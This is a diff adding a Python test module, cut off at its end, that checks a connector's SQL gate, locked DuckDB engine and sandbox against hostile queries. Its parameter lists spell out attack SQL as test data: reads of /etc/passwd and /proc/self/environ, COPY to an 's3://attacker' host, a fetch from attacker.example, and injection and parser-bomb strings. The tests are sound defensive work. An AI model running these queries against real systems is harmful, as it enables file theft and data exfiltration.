@@ -1,0 +1,686 @@
+"""What an attacker sends as a query, and what the attacker sees.
+
+Three walls, each attacked alone: the gate, the locked engine, the sandboxed child.
+"""
+# ruff: noqa: S608 - the statements are the tests' own, and some are meant to be hostile
+
+import asyncio
+import contextlib
+import hashlib
+import random
+from collections.abc import AsyncIterator, Callable, Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import duckdb
+import pyarrow as pa
+import pyarrow.ipc
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from catalog.model import Column, ColumnRole
+from connector.adapters.duckdb_queries import DuckdbQueries, QueryFailedError, QueryTimeoutError
+from connector.queries.decompose import site_statement, withhold
+from connector.queries.errors import QueryRefusedError
+from connector.queries.gate import plan_query
+from connector.queries.merge import merge_partials
+from connector.sandbox import query_program
+from connector.sandbox.launch import Sandbox, SandboxUnavailableError
+from policies.restrictions import QueryRestrictions
+
+COLUMNS = (
+    Column("profile", "string", ColumnRole.UNIT, {}),
+    Column("sector", "string", ColumnRole.DIMENSION, {}),
+    Column("ts", "timestamp[us, tz=UTC]", ColumnRole.TIME, {}),
+    Column("load_kw", "double", ColumnRole.MEASURE, {}, "kW", 0.05),
+)
+LIMITS = QueryRestrictions(None, "profile", minimum_units=5, minimum_rows=10, maximum_result_rows=1000)
+SECRET = "SECRET-4711"
+
+# The first wall: statement and the code with which it is turned away.
+ATTACKS = [
+    # Files, addresses and other tables in the table's place
+    ("SELECT count(*) FROM read_parquet('/data/load_profiles.parquet')", "unknown-table"),
+    ("SELECT count(*) FROM read_csv('/etc/passwd')", "unknown-table"),
+    ("SELECT count(*) FROM read_text('/etc/passwd')", "unknown-table"),
+    ("SELECT count(*) FROM read_blob('/proc/self/environ')", "unknown-table"),
+    ("SELECT count(*) FROM sniff_csv('/etc/passwd')", "unknown-table"),
+    ("SELECT count(*) FROM glob('/**')", "function-not-allowed"),
+    ("SELECT count(*) FROM '/etc/passwd'", "unknown-table"),
+    ("SELECT count(*) FROM 'https://attacker.example/x.parquet'", "unknown-table"),
+    ('SELECT count(*) FROM "load_profiles.parquet"', "unknown-table"),
+    ("SELECT count(*) FROM parquet_metadata('x')", "unknown-table"),
+    ("SELECT count(*) FROM query('SELECT 1')", "unknown-table"),
+    ("SELECT count(*) FROM query_table('load_profiles')", "unknown-table"),
+    ("SELECT count(*) FROM json_execute_serialized_sql('{}')", "unknown-table"),
+    ("SELECT count(*) FROM duckdb_settings()", "unknown-table"),
+    ("SELECT count(*) FROM duckdb_views()", "unknown-table"),
+    ("SELECT count(*) FROM duckdb_secrets()", "unknown-table"),
+    ("SELECT count(*) FROM information_schema.tables", "unknown-table"),
+    ("SELECT count(*) FROM pg_catalog.pg_tables", "unknown-table"),
+    ("SELECT count(*) FROM sqlite_master", "unknown-table"),
+    ("SELECT count(*) FROM main.load_profiles", "unknown-table"),
+    ("SELECT count(*) FROM other.main.load_profiles", "unknown-table"),
+    ("SELECT count(*) FROM range(1000000000000)", "function-not-allowed"),
+    ("SELECT count(*) FROM generate_series(1, 9)", "unknown-table"),
+    ("SELECT count(*) FROM unnest([1, 2])", "function-not-allowed"),
+    ("SELECT count(*) FROM VALUES (1)", "function-not-allowed"),
+    ("SELECT count(*) FROM (VALUES (1)) t(a)", "function-not-allowed"),
+    # Other statements
+    ("COPY load_profiles TO '/tmp/x.csv'", "not-a-select"),
+    ("COPY (SELECT 1) TO 's3://attacker/x'", "not-a-select"),
+    ("EXPORT DATABASE '/tmp/x'", "not-a-select"),
+    ("ATTACH '/tmp/x.db'", "not-a-select"),
+    ("ATTACH ':memory:' AS m", "not-a-select"),
+    ("INSTALL httpfs", "not-a-select"),
+    ("LOAD httpfs", "not-a-select"),
+    ("SET memory_limit = '1TB'", "not-a-select"),
+    ("RESET enable_external_access", "not-a-select"),
+    ("PRAGMA database_list", "not-a-select"),
+    ("SUMMARIZE load_profiles", "not-a-select"),
+    ("DESCRIBE load_profiles", "not-a-select"),
+    ("EXPLAIN ANALYZE SELECT 1", "not-a-select"),
+    ("PREPARE p AS SELECT 1", "not-a-select"),
+    ("CALL pragma_version()", "not-a-select"),
+    ("CREATE TABLE t AS SELECT 1", "not-a-select"),
+    ("CREATE MACRO f(x) AS x", "not-a-select"),
+    ("CREATE SECRET s (TYPE s3)", "not-a-select"),
+    ("DROP VIEW load_profiles", "not-a-select"),
+    ("DELETE FROM load_profiles", "not-a-select"),
+    ("VALUES (1)", "not-a-select"),
+    ("FROM load_profiles", "not-a-select"),
+    ("FROM load_profiles SELECT count(*)", "not-a-select"),
+    ("PIVOT load_profiles ON sector USING count(*)", "not-a-select"),
+    ("(SELECT count(*) FROM load_profiles)", "not-a-select"),
+    ("SELECT count(*) FROM load_profiles; DROP VIEW load_profiles", "one-statement"),
+    ("SELECT count(*) FROM load_profiles;;SELECT 1", "one-statement"),
+    # Rows
+    ("SELECT * FROM load_profiles", "row-level"),
+    ("SELECT load_profiles.* FROM load_profiles", "row-level"),
+    ("SELECT *, count(*) FROM load_profiles GROUP BY ALL", "row-level"),
+    ("SELECT * EXCLUDE (profile) FROM load_profiles", "row-level"),
+    ("SELECT COLUMNS(*) FROM load_profiles", "function-not-allowed"),
+    ("SELECT COLUMNS('.*'), count(*) FROM load_profiles", "function-not-allowed"),
+    ("SELECT profile FROM load_profiles LIMIT 1", "row-level"),
+    ("SELECT load_kw, count(*) FROM load_profiles GROUP BY 1", "row-level"),
+    ("SELECT load_profiles FROM load_profiles", "row-level"),
+    ("SELECT rowid, count(*) FROM load_profiles GROUP BY 1", "unknown-column"),
+    ("SELECT count(*) FROM load_profiles GROUP BY rowid", "unknown-column"),
+    ("SELECT count(*) FROM load_profiles WHERE rowid = 1", "unknown-column"),
+    ("SELECT DISTINCT sector FROM load_profiles", "distinct"),
+    ("SELECT ALL sector FROM load_profiles", "row-level"),
+    # Columns under other names
+    (
+        "SELECT sector, count(*) FROM load_profiles AS l(sector, profile, ts, load_kw) GROUP BY 1",
+        "column-alias",
+    ),
+    ("SELECT sector, count(*) FROM load_profiles l(sector) GROUP BY sector", "column-alias"),
+    ("SELECT profile AS sector, count(*) FROM load_profiles GROUP BY sector", "row-level"),
+    ("SELECT hour(ts) AS sector, count(*) FROM load_profiles GROUP BY sector", "ambiguous-name"),
+    ("SELECT count(*) FROM load_profiles AS x WHERE load_profiles.sector = 'a'", "unknown-table"),
+    ("SELECT count(*) FROM load_profiles WHERE main.load_profiles.sector = 'a'", "syntax"),
+    # Aggregates that hand rows out, and functions
+    ("SELECT list(load_kw) FROM load_profiles", "function-not-allowed"),
+    ("SELECT array_agg(load_kw) FROM load_profiles", "function-not-allowed"),
+    ("SELECT string_agg(profile, ',') FROM load_profiles", "function-not-allowed"),
+    ("SELECT group_concat(profile) FROM load_profiles", "function-not-allowed"),
+    ("SELECT arg_max(profile, load_kw) FROM load_profiles", "function-not-allowed"),
+    ("SELECT max_by(profile, load_kw) FROM load_profiles", "function-not-allowed"),
+    ("SELECT any_value(profile) FROM load_profiles", "function-not-allowed"),
+    ("SELECT first(profile) FROM load_profiles", "function-not-allowed"),
+    ("SELECT mode(profile) FROM load_profiles", "function-not-allowed"),
+    ("SELECT histogram(load_kw) FROM load_profiles", "function-not-allowed"),
+    ("SELECT approx_top_k(profile, 9) FROM load_profiles", "function-not-allowed"),
+    ("SELECT quantile_cont(load_kw, 0.99) FROM load_profiles", "function-not-allowed"),
+    ("SELECT median(load_kw) FROM load_profiles", "function-not-allowed"),
+    ("SELECT corr(load_kw, load_kw) FROM load_profiles", "function-not-allowed"),
+    ("SELECT covar_samp(load_kw, load_kw) FROM load_profiles", "function-not-allowed"),
+    ("SELECT approx_count_distinct(profile) FROM load_profiles", "function-not-allowed"),
+    ("SELECT count(DISTINCT profile) FROM load_profiles", "distinct"),
+    ("SELECT sum(DISTINCT load_kw) FROM load_profiles", "distinct"),
+    ("SELECT max(profile) FROM load_profiles", "aggregate-column"),
+    ("SELECT min(sector) FROM load_profiles", "aggregate-column"),
+    ("SELECT max(ts) FROM load_profiles", "aggregate-column"),
+    ("SELECT max(load_kw, 100) FROM load_profiles", "function-not-allowed"),
+    ("SELECT max(-load_kw) FROM load_profiles", "function-not-allowed"),
+    ("SELECT sum(load_kw) FILTER (WHERE profile = 'H0') FROM load_profiles", "function-not-allowed"),
+    ("SELECT sum(CASE WHEN profile = 'H0' THEN load_kw END) FROM load_profiles", "syntax"),
+    ("SELECT sum(load_kw ORDER BY profile) FROM load_profiles", "function-not-allowed"),
+    ("SELECT avg((SELECT 1)) FROM load_profiles", "subquery"),
+    ("SELECT sum(load_kw) OVER (PARTITION BY profile) FROM load_profiles", "window"),
+    ("SELECT row_number() OVER () FROM load_profiles", "window"),
+    ("SELECT count(*) FROM load_profiles WINDOW w AS ()", "window"),
+    ("SELECT count(*) FROM load_profiles QUALIFY true", "window"),
+    ("SELECT getenv('HOME'), count(*) FROM load_profiles", "function-not-allowed"),
+    ("SELECT current_setting('temp_directory'), count(*) FROM load_profiles", "function-not-allowed"),
+    ("SELECT getvariable('x'), count(*) FROM load_profiles", "function-not-allowed"),
+    ("SELECT repeat('x', 2000000000) FROM load_profiles", "function-not-allowed"),
+    ("SELECT count(*) FROM load_profiles WHERE error(sector) = 'a'", "function-not-allowed"),
+    ("SELECT hash(profile), count(*) FROM load_profiles GROUP BY 1", "function-not-allowed"),
+    ("SELECT epoch(ts), count(*) FROM load_profiles GROUP BY 1", "function-not-allowed"),
+    ("SELECT date_trunc('microsecond', ts), count(*) FROM load_profiles GROUP BY 1", "function-not-allowed"),
+    ("SELECT date_trunc(sector, ts), count(*) FROM load_profiles GROUP BY 1", "function-not-allowed"),
+    ("SELECT strftime(ts, '%s'), count(*) FROM load_profiles GROUP BY 1", "function-not-allowed"),
+    ("SELECT year(load_kw), count(*) FROM load_profiles GROUP BY 1", "column-role"),
+    ("SELECT hour(profile), count(*) FROM load_profiles GROUP BY 1", "column-role"),
+    # Singling out
+    ("SELECT avg(load_kw) FROM load_profiles WHERE profile = 'H0'", "column-role"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE load_profiles.profile <> 'H0'", "column-role"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE \"PROFILE\" IN ('H0')", "column-role"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE load_kw > 99", "column-role"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE 99 < load_kw", "column-role"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE sector LIKE '%x%'", "syntax"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE sector = profile", "literal"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE sector || profile = 'aH0'", "syntax"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE sector IN (profile)", "literal"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE (sector, profile) IN (('a', 'H0'))", "syntax"),
+    (
+        "SELECT avg(load_kw) FROM load_profiles WHERE sector = (SELECT min(profile) FROM load_profiles)",
+        "subquery",
+    ),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE EXISTS (SELECT 1)", "subquery"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE sector = ANY(profile)", "function-not-allowed"),
+    ("SELECT avg(load_kw) FROM load_profiles WHERE sector IN load_profiles", "filter"),
+    ("SELECT avg(load_kw) FROM load_profiles HAVING count(*) = 1", "having"),
+    ("SELECT count(*) FROM load_profiles GROUP BY profile", "column-role"),
+    ("SELECT count(*) FROM load_profiles GROUP BY (sector, profile)", "syntax"),
+    ("SELECT count(*) FROM load_profiles GROUP BY ROLLUP (sector, profile)", "function-not-allowed"),
+    ("SELECT count(*) FROM load_profiles GROUP BY CUBE (sector)", "function-not-allowed"),
+    ("SELECT count(*) FROM load_profiles GROUP BY GROUPING SETS ((sector), ())", "function-not-allowed"),
+    ("SELECT count(*) FROM load_profiles GROUP BY 1 + 1", "syntax"),
+    ("SELECT count(*) FROM load_profiles ORDER BY profile", "order-by"),
+    ("SELECT count(*) FROM load_profiles ORDER BY load_kw", "order-by"),
+    ("SELECT count(*) FROM load_profiles ORDER BY random()", "order-by"),
+    ("SELECT count(*) FROM load_profiles LIMIT (SELECT 1)", "subquery"),
+    ("SELECT count(*) FROM load_profiles LIMIT 50%", "syntax"),
+    ("SELECT count(*) FROM load_profiles OFFSET 1", "offset"),
+    # More than one table
+    ("SELECT count(*) FROM load_profiles, load_profiles b", "join"),
+    ("SELECT count(*) FROM load_profiles JOIN load_profiles b ON true", "join"),
+    ("SELECT count(*) FROM load_profiles POSITIONAL JOIN load_profiles b", "join"),
+    ("SELECT count(*) FROM load_profiles ASOF JOIN load_profiles b USING (ts)", "join"),
+    ("SELECT count(*) FROM load_profiles, LATERAL (SELECT 1)", "join"),
+    ("SELECT count(*) FROM (SELECT * FROM load_profiles)", "subquery"),
+    ("WITH x AS (SELECT 1) SELECT count(*) FROM x", "not-a-select"),
+    ("WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT 1 FROM x) SELECT count(*) FROM x", "not-a-select"),
+    ("SELECT count(*) FROM load_profiles UNION SELECT 1", "set-operation"),
+    ("SELECT count(*) FROM load_profiles INTERSECT SELECT 1", "set-operation"),
+    ("SELECT count(*) FROM load_profiles EXCEPT ALL SELECT 1", "set-operation"),
+    ("SELECT count(*) FROM load_profiles USING SAMPLE 1 ROWS", "syntax"),
+    ("SELECT count(*) FROM load_profiles TABLESAMPLE 1%", "sample"),
+    ("SELECT count(*) FROM load_profiles AT (VERSION => 1)", "syntax"),
+    # Parameters, strings, comments and letters that look like others
+    ("SELECT count(*) FROM load_profiles WHERE sector = ?", "parameter"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = $1", "parameter"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = :sector", "parameter"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = @sector", "parameter"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = $$a$$", "syntax"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = E'a\\''", "syntax"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = 'a\x00b'", "literal"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = 'a\nb'", "literal"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = 'a\u202eb'", "literal"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = 'a", "syntax"),
+    ("SELECT count(*) FROM load_profiles /* unclosed", "syntax"),
+    ("SELECT /*+ hint */ count(*) FROM load_profiles, x", "join"),
+    ("SELECT {{ 1 }} FROM load_profiles", "syntax"),
+    ("SELECT count(*) FROM load_profile\u017f", "unknown-table"),
+    ("SELECT count(*) FROM load_profiles\uff1b DROP VIEW load_profiles", "syntax"),
+    ("SELECT s\u0435ctor, count(*) FROM load_profiles GROUP BY 1", "unknown-column"),
+    ("SELECT count(*) AS \u202e FROM load_profiles", "name"),
+    ('SELECT count(*) AS "a\'b" FROM load_profiles', "name"),
+    ("SELECT count(*) AS " + "n" * 64 + " FROM load_profiles", "name"),
+    ("SELECT count(*) AS sites FROM load_profiles", "name"),
+    # Bombs against the parser
+    ("SELECT count(*) FROM load_profiles WHERE " + "(" * 4000 + "1" + ")" * 4000, "too-complex"),
+    ("SELECT " + "avg(" * 1500 + "load_kw" + ")" * 1500 + " FROM load_profiles", "too-complex"),
+    ("SELECT count(*) FROM load_profiles WHERE " + "NOT " * 1900 + "true", "too-complex"),
+    ("SELECT count(*) FROM load_profiles WHERE " + "NOT " * 60 + "true", "too-deep"),
+    ("SELECT count(*) FROM load_profiles WHERE hour(ts) = " + "- " * 60 + "1", "too-deep"),
+    ("SELECT count(*) FROM load_profiles WHERE " + "NOT (" * 60 + "true" + ")" * 60, "too-deep"),
+    ("SELECT count(*) FROM load_profiles WHERE " + "')' = '('" * 9 + "(" * 13, "too-deep"),
+    ("SELECT count(*) FROM load_profiles WHERE " + " AND ".join(["hour(ts) = 1"] * 400), "too-complex"),
+    ("SELECT count(*) FROM load_profiles WHERE " + "CASE WHEN " * 500 + "1", "syntax"),
+    ("SELECT count(*) FROM load_profiles WHERE sector " + "IN (" * 13, "too-deep"),
+    ("SELECT " + "[" * 2000 + "]" * 2000 + " FROM load_profiles", "syntax"),
+    ("SELECT count(*) FROM load_profiles WHERE ts > " + "'1'" + "::date" * 200, "too-complex"),
+    ("SELECT " + ", ".join(["count(*)"] * 40) + " FROM load_profiles", "too-complex"),
+    ("SELECT count(*) FROM load_profiles -- " + "x" * 9000, "too-long"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = '" + "\u20ac" * 3000 + "'", "too-long"),
+    ("SELECT count(*) FROM load_profiles WHERE sector = '\ud800'", "literal"),
+]
+
+
+@pytest.mark.parametrize(("sql", "code"), ATTACKS, ids=[sql[:60] for sql, _ in ATTACKS])
+def test_the_gate_turns_the_attack_away_and_says_why(sql: str, code: str) -> None:
+    with pytest.raises(QueryRefusedError) as refused:
+        plan_query(sql, table="load_profiles", columns=COLUMNS)
+    assert refused.value.code == code
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=300) | st.binary(max_size=300).map(lambda raw: raw.decode("latin-1")))
+def test_noise_is_refused_and_nothing_else_happens(noise: str) -> None:
+    with pytest.raises(QueryRefusedError):
+        plan_query(noise, table="load_profiles", columns=COLUMNS)
+
+
+WORDS = """
+SELECT FROM WHERE GROUP BY ALL ORDER LIMIT load_profiles profile sector ts load_kw count(*) sum( avg( max(
+hour( ) ( , . * ; = <> < IN BETWEEN AND OR NOT - 1 2 'a' '2016-01-01' AS x "profile" :: date CASE WHEN
+UNION JOIN HAVING OVER FILTER [ ] { } -- /* */ $1 ? @ NULL IS LIKE INTERVAL CAST( EXISTS( ROLLUP( t(a)
+"""
+words = st.sampled_from(WORDS.split())
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.lists(words, max_size=60))
+def test_any_row_of_words_is_a_plan_or_a_refusal_and_never_a_crash(found: list[str]) -> None:
+    sql = "SELECT count(*) FROM load_profiles " + " ".join(found)
+    with contextlib.suppress(QueryRefusedError):
+        plan = plan_query(sql, table="load_profiles", columns=COLUMNS)
+        assert "profile" not in {key.column for key in plan.keys}
+        assert {aggregate.column for aggregate in plan.aggregates} <= {None, "load_kw"}
+
+
+def test_the_deepest_statement_that_is_let_through_leaves_half_of_the_stack() -> None:
+    condition = "hour(ts) = 1"
+    for _ in range(11):
+        condition = f"NOT ({condition})"
+    sql = f"SELECT count(*) FROM load_profiles WHERE {condition}"
+
+    def deeper(frames: int) -> object:
+        if frames:
+            return deeper(frames - 1)
+        return plan_query(sql, table="load_profiles", columns=COLUMNS)
+
+    assert deeper(400)
+
+
+def test_the_clients_text_never_reaches_the_engine() -> None:
+    sql = (
+        "SELECT /* c0mment */ sector AS k1, count(*) AS n1 FROM load_profiles AS t4ble -- c0mment\n"
+        "WHERE t4ble.sector IN ('v4lue', '''); DROP VIEW load_profiles; --') GROUP BY k1 ORDER BY n1 LIMIT 77"
+    )
+    statement = site_statement(plan_query(sql, table="load_profiles", columns=COLUMNS), LIMITS, COLUMNS)
+    assert not any(text in statement for text in ("c0mment", "t4ble", "k1", "n1", "77"))
+    assert "('v4lue', '''); DROP VIEW load_profiles; --')" in statement
+    assert len(duckdb.extract_statements(statement)) == 1
+
+
+# What the gate lets through, answered by the real engine.
+
+UNITS = [f"{SECRET}-{number:02d}" for number in range(12)]
+START = datetime(2016, 1, 1, tzinfo=UTC)
+
+
+def _rows() -> list[tuple[str, str, datetime, float | None]]:
+    # Fixed data: small and large groups, gaps, and one unit that towers over the rest.
+    chance = random.Random(4711)  # noqa: S311 - the same rows in every run
+    rows = []
+    for _ in range(900):
+        unit = int(abs(chance.gauss(0, 5))) % len(UNITS)
+        sector = chance.choice("aaaaaabbbc") if unit < 9 else "d"
+        when = START + timedelta(minutes=15 * chance.randrange(96 * 90))
+        # In sector c two units alone have values: many rows, but few units behind every figure.
+        gap = chance.random() < 0.2 or (sector == "c" and unit > 1)
+        load = None if gap else chance.random() * (500 if unit == 7 else 5)
+        rows.append((UNITS[unit], sector, when, load))
+    return rows
+
+
+ROWS = _rows()
+TABLE = pa.table(
+    {
+        "profile": [row[0] for row in ROWS],
+        "sector": [row[1] for row in ROWS],
+        "ts": pa.array([row[2] for row in ROWS], pa.timestamp("us", tz="UTC")),
+        "load_kw": pa.array([row[3] for row in ROWS], pa.float64()),
+    }
+)
+
+Row = tuple[str, str, datetime, float | None]
+KEYS: dict[str, Callable[[Row], object]] = {
+    "sector": lambda row: row[1],
+    "hour(ts)": lambda row: row[2].hour,
+    "dayofweek(ts)": lambda row: row[2].isoweekday() % 7,
+    "month(ts)": lambda row: row[2].month,
+    "date_trunc('day', ts)": lambda row: row[2].date(),
+}
+CONDITIONS: dict[str, Callable[[Row], bool]] = {
+    "sector = 'a'": lambda row: row[1] == "a",
+    "sector IN ('b', 'd')": lambda row: row[1] in "bd",
+    "hour(ts) BETWEEN 3 AND 5": lambda row: 3 <= row[2].hour <= 5,
+    "13 <= hour(ts)": lambda row: row[2].hour >= 13,
+    "ts >= '2016-02-01'": lambda row: row[2] >= datetime(2016, 2, 1, tzinfo=UTC),
+    "ts < TIMESTAMP '2016-01-01 06:00:00'": lambda row: row[2] < datetime(2016, 1, 1, 6, tzinfo=UTC),
+    "dayofweek(ts) <> 0": lambda row: row[2].isoweekday() % 7 != 0,
+}
+EVIL_KEYS = [
+    "profile",
+    "load_kw",
+    "ts",
+    "minute(ts)",
+    "rowid",
+    "lower(profile)",
+    "'x'",
+    "date_trunc('minute', ts)",
+]
+EVIL_CONDITIONS = [
+    f"profile = '{UNITS[7]}'",
+    "load_kw > 400",
+    "rowid = 3",
+    "true",
+    "profile IS NULL",
+    "1 = 1",
+]
+FIGURES = [
+    "count(*)",
+    "sum(load_kw)",
+    "avg(load_kw)",
+    "var_samp(load_kw)",
+    "stddev(load_kw)",
+    "max(load_kw)",
+    "min(load_kw)",
+]
+EVIL_FIGURES = [
+    "max(profile)",
+    "list(load_kw)",
+    "max(load_kw, 3)",
+    "first(profile)",
+    "sum(load_kw + 1)",
+    "max(ts)",
+]
+
+Condition = tuple[str, Callable[[Row], bool] | None]
+
+
+def _joined(left: Condition, right: Condition, word: str) -> Condition:
+    (text, first), (other, second) = left, right
+    sql = f"({text}) {word} ({other})"
+    if first is None or second is None:
+        return sql, None
+    if word == "AND":
+        return sql, lambda row: first(row) and second(row)
+    return sql, lambda row: first(row) or second(row)
+
+
+def _negated(inner: Condition) -> Condition:
+    text, predicate = inner
+    return f"NOT ({text})", None if predicate is None else lambda row: not predicate(row)
+
+
+conditions: st.SearchStrategy[Condition] = st.recursive(
+    st.sampled_from([*CONDITIONS.items()] * 3 + [(text, None) for text in EVIL_CONDITIONS]),
+    lambda inner: (
+        st.builds(_joined, inner, inner, st.sampled_from(["AND", "OR"])) | st.builds(_negated, inner)
+    ),
+    max_leaves=4,
+)
+statements = st.tuples(
+    st.lists(st.sampled_from([*KEYS] * 3 + EVIL_KEYS), max_size=3, unique=True),
+    st.lists(st.sampled_from(FIGURES * 4 + EVIL_FIGURES), min_size=1, max_size=3, unique=True),
+    st.none() | conditions,
+    st.sampled_from(["ALL", "names", "numbers"]),
+)
+
+
+@pytest.fixture(scope="module")
+def locked_engine() -> Iterator[duckdb.DuckDBPyConnection]:
+    with query_program.prepare(1, 512) as engine:
+        engine.register("load_profiles", TABLE)
+        query_program.lock(engine, 60)
+        yield engine
+
+
+def _statement(keys: list[str], figures: list[str], condition: Condition | None, style: str) -> str:
+    where = f" WHERE {condition[0]}" if condition else ""
+    grouping = {
+        "ALL": "ALL",
+        "names": ", ".join(keys),
+        "numbers": ", ".join(map(str, range(1, len(keys) + 1))),
+    }
+    group = f" GROUP BY {grouping[style]}" if keys else ""
+    return f"SELECT {', '.join([*keys, *figures])} FROM load_profiles{where}{group}"
+
+
+@settings(max_examples=250, deadline=None)
+@given(statements)
+def test_whatever_the_gate_lets_through_shows_no_small_group_and_no_unit(
+    locked_engine: duckdb.DuckDBPyConnection,
+    statement: tuple[list[str], list[str], Condition | None, str],
+) -> None:
+    keys, figures, condition, _ = statement
+    sql = _statement(*statement)
+    try:
+        plan = plan_query(sql, table="load_profiles", columns=COLUMNS)
+    except QueryRefusedError:
+        evil = {*EVIL_KEYS, *EVIL_FIGURES} & {*keys, *figures}
+        assert evil or (condition and condition[1] is None), f"a lawful query was refused: {sql}"
+        return
+    assert set(keys) <= set(KEYS), sql
+    assert set(figures) <= set(FIGURES), sql
+    predicate = condition[1] if condition else lambda _: True
+    assert predicate is not None, sql
+
+    partials = query_program.run(locked_engine, site_statement(plan, LIMITS, COLUMNS))
+    result = merge_partials(plan, {"did:web:site": withhold(plan, LIMITS, partials)})
+
+    assert SECRET not in repr(partials.to_pydict()) + repr(result.to_pydict())
+    groups: dict[tuple[object, ...], list[Row]] = {}
+    for row in ROWS:
+        if predicate(row):
+            groups.setdefault(tuple(KEYS[key](row) for key in keys), []).append(row)
+    measured = any("load_kw" in figure for figure in figures)
+    for group in partials.to_pylist():
+        members = groups.get(tuple(group[f"key_{index}"] for index in range(len(keys))), [])
+        counted = [row for row in members if row[3] is not None] if measured else members
+        large = len({row[0] for row in counted}) >= 5 and len(counted) >= 10
+        assert group["status"] == ("released" if large else "suppressed"), sql
+        if not large:
+            assert all(value is None for name, value in group.items() if name[:3] not in {"key", "sta"})
+        _check_extremes(group, counted)
+
+
+def _check_extremes(group: dict[str, Any], counted: list[Row]) -> None:
+    if group.get("high_0") is not None:
+        assert len({row[0] for row in counted if (row[3] or 0) >= group["high_0"]}) >= 5
+    if group.get("low_0") is not None:
+        assert len({row[0] for row in counted if (row[3] or 0) <= group["low_0"]}) >= 5
+
+
+# The second wall: the engine, as if the gate and our own statement were not there.
+
+ENGINE_REFUSES = [
+    "SELECT * FROM read_text('/etc/passwd')",
+    "SELECT * FROM read_csv('/etc/passwd')",
+    "SELECT * FROM read_blob('/proc/self/environ')",
+    "SELECT * FROM read_parquet('/etc/passwd')",
+    "SELECT * FROM sniff_csv('/etc/passwd')",
+    "SELECT * FROM glob('/**')",
+    "SELECT * FROM '/etc/passwd'",
+    "SELECT * FROM 'https://attacker.example/x.parquet'",
+    "SELECT * FROM parquet_metadata('/etc/passwd')",
+    "SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')",
+    "SELECT * FROM query_table('/etc/passwd')",
+    "SELECT getenv('HOME')",
+    "SELECT * FROM TABLE_OF_THE_TEST",
+    "COPY load_profiles TO '/tmp/allmende-escape.csv'",
+    "COPY (SELECT 1) TO '/dev/stdout'",
+    "EXPORT DATABASE '/tmp/allmende-escape'",
+    "ATTACH '/tmp/allmende-escape.db'",
+    "ATTACH ':memory:' AS m",
+    "INSTALL httpfs",
+    "LOAD httpfs",
+    "SET memory_limit = '1TB'",
+    "SET enable_external_access = true",
+    "SET lock_configuration = false",
+    "RESET threads",
+    "PRAGMA enable_profiling",
+    "PRAGMA database_list",
+    "CREATE TABLE t AS SELECT 1",
+    "CREATE PERSISTENT SECRET s (TYPE s3)",
+    "DROP VIEW load_profiles",
+    "SET VARIABLE x = 1",
+    "CHECKPOINT",
+    "EXPLAIN ANALYZE SELECT 1",
+    "SELECT 1; SELECT 2",
+    "",
+    "SELECT (" + "(" * 500 + "1" + ")" * 500 + ")",
+]
+TABLE_OF_THE_TEST = pa.table({"secret": [SECRET]})
+
+
+@pytest.mark.parametrize("statement", ENGINE_REFUSES, ids=[statement[:60] for statement in ENGINE_REFUSES])
+def test_the_locked_engine_reads_no_file_and_changes_nothing(
+    locked_engine: duckdb.DuckDBPyConnection, statement: str
+) -> None:
+    with pytest.raises((duckdb.Error, query_program.QueryError)):
+        query_program.run(locked_engine, statement)
+    assert not list(Path("/tmp").glob("allmende-escape*"))  # noqa: S108 - where the attack would write
+
+
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "SELECT * FROM duckdb_settings()",
+        "SELECT * FROM duckdb_views()",
+        "SELECT * FROM duckdb_secrets()",
+        "SELECT * FROM duckdb_databases()",
+        "SELECT * FROM information_schema.tables",
+        "SELECT * FROM duckdb_logs()",
+        "SELECT current_setting('temp_directory')",
+    ],
+)
+def test_what_the_engine_tells_about_itself_names_nothing_of_this_machine(
+    locked_engine: duckdb.DuckDBPyConnection, statement: str
+) -> None:
+    told = repr(query_program.run(locked_engine, statement).to_pylist())
+    assert str(Path.cwd()) not in told
+    assert SECRET not in told
+
+
+def test_the_engine_holds_only_the_permitted_projection(locked_engine: duckdb.DuckDBPyConnection) -> None:
+    found = query_program.run(locked_engine, "SELECT table_name FROM information_schema.tables")
+    assert found.to_pylist() == [{"table_name": "load_profiles"}]
+
+
+# The third wall: the child process. Each test starts real sandboxed children.
+
+
+@pytest.fixture(scope="module")
+def sandbox() -> Sandbox:
+    try:
+        return Sandbox.probe()
+    except SandboxUnavailableError as error:
+        pytest.skip(f"no sandbox on this machine: {error}")
+
+
+@pytest.fixture
+def projection(tmp_path: Path) -> Path:
+    path = tmp_path / "projection.arrow"
+    with pa.ipc.new_file(path, TABLE.schema) as writer:
+        writer.write_table(TABLE)
+    path.chmod(0o600)
+    return path
+
+
+@pytest.fixture
+async def queries(sandbox: Sandbox) -> AsyncIterator[DuckdbQueries]:
+    engine = DuckdbQueries(sandbox)
+    yield engine
+    await engine.aclose()
+
+
+async def _seen(queries: DuckdbQueries, projection: Path, statement: str, seconds: float = 20.0) -> str:
+    """Give everything that the attacker sees."""
+    try:
+        found = await queries.run(
+            statement, table="load_profiles", projection=projection, timeout_seconds=seconds
+        )
+    except QueryTimeoutError:
+        return "timeout"
+    except QueryFailedError as error:
+        return f"failed: {error}"
+    return repr(found.to_pylist())
+
+
+def _children() -> set[int]:
